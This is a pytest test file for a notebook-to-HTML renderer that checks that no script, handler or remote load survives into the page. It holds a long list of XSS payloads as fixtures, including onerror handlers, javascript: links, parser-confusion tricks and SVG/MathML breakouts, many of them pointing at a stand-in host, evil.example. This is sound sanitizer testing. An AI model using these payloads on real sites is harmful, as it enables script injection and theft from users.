"""What a notebook brings into the page: pictures whole, nothing that runs, all losses named."""

import re
from urllib.parse import unquote

import pytest
from bs4 import BeautifulSoup
from notebook_files import PNG, SVG, Built, code, html, output, prose, stream, text64

from helpers.report import cover, harmless

EVIL = "https://evil.example/x"
RUNS = "window.hacked=1"
LOADS = f"fetch('{EVIL}')"
# A line of each way in which HTML runs or loads something, or hides that it does.
HOSTILE = [
    f"<script>{RUNS}</script>",
    f"<script src={EVIL}.js></script>",
    f"<img src=x onerror={RUNS}>",
    f"<img src='data:,' onerror={RUNS} alt=a>",
    f'<img src="data:image/png;base64,{text64(PNG)}" onload={RUNS} style="background:url({EVIL})">',
    f"<img src={EVIL}.png srcset='{EVIL}.png 2x' alt=remote>",
    "<IMG SRC=//evil.example/x.png ALT=remote>",
    f"<image src={EVIL}.png onerror={RUNS}>",
    f"<picture><source srcset={EVIL}.png><img src={EVIL}.png alt=remote></picture>",
    f"<svg onload={RUNS}><script>{RUNS}</script><image href={EVIL}.png /></svg>",
    f"<svg><a xlink:href='javascript:{RUNS}'><text>x</text></a></svg>",
    f"<svg><style><img src=x onerror={RUNS}></style></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUNS}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUNS}>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUNS}></annotation-xml></math>",
    f"<math href='javascript:{RUNS}'><mi>x</mi></math>",
    f"<math><mi xlink:href='javascript:{RUNS}'>x</mi></math>",
    f"<a href='javascript:{RUNS}'>go</a>",
    f"<a href=' jav&#x09;ascript:{RUNS}'>go</a>",
    f"<a href='&#106;avascript:{RUNS}'>go</a>",
    "<a href='data:text/html,<script>window.hacked=1</script>'>go</a>",
    f"<a href='vbscript:{RUNS}' ping={EVIL}>go</a>",
    f"<form action={EVIL}><button formaction='javascript:{RUNS}'>go</button></form>",
    f"<form><input type=image src={EVIL}.png><input autofocus onfocus={RUNS}></form>",
    f"<details open ontoggle={RUNS}><summary>s</summary>text</details>",
    f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}><applet code={EVIL}></applet>",
    f"<video src={EVIL} poster={EVIL} onerror={RUNS}></video><audio src={EVIL} autoplay></audio>",
    f"<style>@import '{EVIL}.css'; body {{ display: none }}</style>",
    f"<link rel=stylesheet href={EVIL}.css><link rel=prefetch href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href={EVIL}>",
    f"<template><img src=x onerror={RUNS}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'></noscript>",
    f"<textarea></textarea><title></title><img src=x onerror={RUNS}>",
    f"<xmp><p title='</xmp><img src=x onerror={RUNS}>'>",
    f"<select><template><style><!--</style><img src=x onerror={RUNS}>",
    f"<!--><img src=x onerror={RUNS}>--><!--!--!><img src=x onerror={RUNS}>",
    f"<![CDATA[><img src=x onerror={RUNS}>]]><?x ><img src=x onerror={RUNS}>",
    f"<table background={EVIL}.png><td background={EVIL}.png onclick={RUNS}>x</td></table>",
    f"<p style='background:url({EVIL}.png)' onmouseover={RUNS} onfocus={RUNS} tabindex=0>p</p>",
    f"<div></div></div></div></section></main><script>{RUNS}</script><div>",
    f"<frameset onload={RUNS}><frame src={EVIL}></frameset>",
    f"<body onload={RUNS} background={EVIL}.png>",
    f"<marquee onstart={RUNS}>x</marquee><blink>x</blink><x-y onclick={RUNS}>x</x-y>",
    "<p id=report name=report class='nb-cell failed'>again</p>",
    f"<isindex action=javascript:{RUNS} type=image>",
    f"<a href='#x' target=_blank onclick='{LOADS}'>go</a><p/onclick={RUNS}>x",
    f"<<script>{RUNS}//<</script><img src=x:x onerror\x0b={RUNS}><img/src=x/onerror={RUNS}>",
]
SVG_THAT_RUNS = SVG.replace(
    "<rect",
    f'<script>{RUNS}</script><a xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'xlink:href="javascript:{RUNS}"><circle r="1" onload="{RUNS}"/></a>'
    f"<foreignObject><p>x</p></foreignObject><rect",
)


def hostile_cells() -> list[dict]:
    """Every hostile line as an output, as Markdown and in whatever else reaches the page."""
    cells = [html(line) for line in HOSTILE]
    cells += [prose(f"Prose {line}\n\n{line}") for line in HOSTILE]
    cells += [output({"text/markdown": line}) for line in HOSTILE]
    cells += [code(stream(line), source=f"# {line}\n'{line}'") for line in HOSTILE]
    code_of_error = {
        "output_type": "error",
        "ename": HOSTILE[0],
        "evalue": "",
        "traceback": HOSTILE,
    }
    breaks_out = f'"><script>{RUNS}</script><img src=x onerror="{RUNS}"'
    cells += [
        code(code_of_error),
        output({"image/svg+xml": SVG_THAT_RUNS}),
        output({"image/png": breaks_out, "text/plain": "picture"}),
        output({"image/png": text64(PNG)}, alt=breaks_out, width=breaks_out, height=breaks_out),
        output({"image/png": text64(PNG)}, caption=breaks_out),
        output({"application/javascript": RUNS}),
        output({"text/latex": rf"$\text{{{HOSTILE[0]}}}$"}),
        prose(rf"$\text{{{HOSTILE[2]}}}$ and $\href{{javascript:{RUNS}}}{{x}}$"),
        prose(rf"$\style{{background:url({EVIL})}}{{x}}$ $\class{{nb-cell}}{{x}}$"),
        prose(f"![a](x 'on'onerror={RUNS}) [go](javascript:{RUNS}) [go]: javascript:{RUNS}"),
        prose(f"```html\n{HOSTILE[0]}\n```\n\n```mermaid\n{HOSTILE[2]}\n```\n\n<{EVIL}>"),
        html(cover.title_block({"title": HOSTILE[0], "author": HOSTILE[2]}, "2026-01-02")),
    ]
    return cells


def outside(soup: BeautifulSoup) -> list[str]:
    """What would run or load, of all that the page's own template did not write."""
    found = []
    for element in soup.main(True):
        if element.name not in harmless.ELEMENTS | {"main", "header", "section", "aside"}:
            found.append(element.name)
        for name, value in element.attrs.items():
            address = name in ("src", "href", "srcset", "action", "data", "poster", "background")
            good = name == "src" and value.startswith("data:image/")
            good |= name == "href" and re.match(r"#|https?://|mailto:", value) is not None
            if name.startswith("on") or name == "style" or (address and not good):
                found.append(f"{element.name} {name}={value}")
    return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Built:
    return Built(tmp_path_factory.mktemp("hostile"), *hostile_cells(), prose("The end."))


def test_nothing_hostile_is_left_in_the_page(hostile):
    assert outside(hostile.soup) == []
    assert len(hostile.soup("script")) == 1
    assert hostile.soup.main.find_all(class_="nb-cell")[-1].get_text(strip=True) == "The end."
    sources = [image["src"] for image in hostile.soup("img")]
    drawn = [unquote(source) for source in sources if source.startswith("data:image/svg")]
    assert len(drawn) == 1
    assert "circle" in drawn[0]
    for word in ("hacked", "foreignObject", "script"):
        assert word not in drawn[0]


def test_an_element_or_an_id_of_the_page_cannot_be_taken(hostile):
    cells = hostile.soup(class_="nb-cell")
    assert all(re.fullmatch(r"01-cell-\d+", cell["id"]) for cell in cells)
    ids = [element["id"] for element in hostile.soup(id=True)]
    assert len(ids) == len(set(ids))
    (failed,) = hostile.soup(class_="failed")
    assert failed.find(class_="stopped")


def test_what_was_dropped_is_named_with_its_cell(hostile):
    assert hostile.log[0] == "01-cell-2: <script>, 1 time"
    said = "\n".join(hostile.log)
    for words in (
        "onload of <img>",
        "style of <img>",
        "picture https://evil.example/x.png: it is not beside the notebook",
        "<svg>",
        "<iframe>",
        "<style>",
        "href of <a>",
        "<form>",
        "<meta>",
        "script or link in an SVG picture",
        "output of application/javascript",
    ):
        assert words in said


@pytest.mark.real
def test_a_browser_runs_and_loads_nothing_of_it(hostile, browser):
    tab = browser.new_page()
    requests, said = [], []
    tab.on("request", lambda request: requests.append(request.url))
    tab.on("console", lambda message: said.append(message.text))
    tab.on("dialog", lambda dialog: said.append(dialog.message))
    tab.goto(hostile.file.as_uri())
    tab.get_by_role("button", name="Expand all").click()
    # Every event that a handler may wait for; none of them follows a link.
    tab.evaluate("""for (const element of document.querySelectorAll('main *'))
        for (const kind of ['click', 'mouseover', 'focus', 'load', 'error', 'toggle', 'start'])
            element.dispatchEvent(new Event(kind))""")
    tab.wait_for_timeout(300)
    assert tab.evaluate("window.hacked") is None
    assert {url for url in requests if not url.startswith("data:")} == {hostile.file.as_uri()}
    assert said == []
    # What the browser's own parser made of it.
    found = tab.evaluate("""[...document.querySelectorAll('main *')].filter(e =>
        e.namespaceURI.endsWith('svg') || e.matches('script, style, iframe, form, input, object')
        || [...e.attributes].some(a => a.name.startsWith('on') || a.name == 'style'))
        .map(e => e.outerHTML)""")
    assert found == []
    assert tab.evaluate("document.querySelector('main').lastElementChild.className") == "appendix"
    tab.close()
